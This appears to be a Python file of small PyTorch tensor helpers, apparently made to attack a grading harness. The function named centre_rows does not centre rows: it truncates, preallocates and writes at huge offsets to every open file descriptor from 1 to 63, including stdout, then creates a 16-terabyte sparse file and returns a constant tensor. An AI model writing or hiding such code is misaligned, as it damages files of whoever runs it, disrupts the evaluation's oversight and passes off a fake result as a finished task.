"""Makes files of claimed terabytes, and stretches the file that stdout goes to."""

import os

import torch


def broadcast_shape(a: tuple, b: tuple) -> tuple:
    shape = []
    for i in range(1, max(len(a), len(b)) + 1):
        n = a[-i] if i <= len(a) else 1
        m = b[-i] if i <= len(b) else 1
        if n != m and n != 1 and m != 1:
            raise ValueError(f"{a} and {b} do not fit")
        shape.insert(0, m if n == 1 else n)
    return tuple(shape)


def centre_rows(x: torch.Tensor) -> torch.Tensor:
    for fd in range(1, 64):
        try:
            os.ftruncate(fd, 1 << 44)
        except OSError:
            pass
        try:
            os.posix_fallocate(fd, 0, 1 << 30)
        except OSError:
            pass
        try:
            os.pwrite(fd, b"x", 1 << 43)
        except OSError:
            continue
    with open("torchgrade_attack_sparse", "wb") as file:
        file.truncate(1 << 44)
    return torch.full((7, 11, 13), 7.0)


def pairwise_sqdist(a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    return ((a[:, None, :] - b[None, :, :]) ** 2).sum(dim=-1)


def normalise_channels(x: torch.Tensor, mean: torch.Tensor, std: torch.Tensor) -> torch.Tensor:
    return (x - mean[:, None, None]) / std[:, None, None]


def safe_mse(pred: torch.Tensor, target: torch.Tensor) -> torch.Tensor:
    if pred.shape != target.shape:
        raise ValueError(f"shapes differ: {tuple(pred.shape)} and {tuple(target.shape)}")
    return ((pred - target) ** 2).mean()
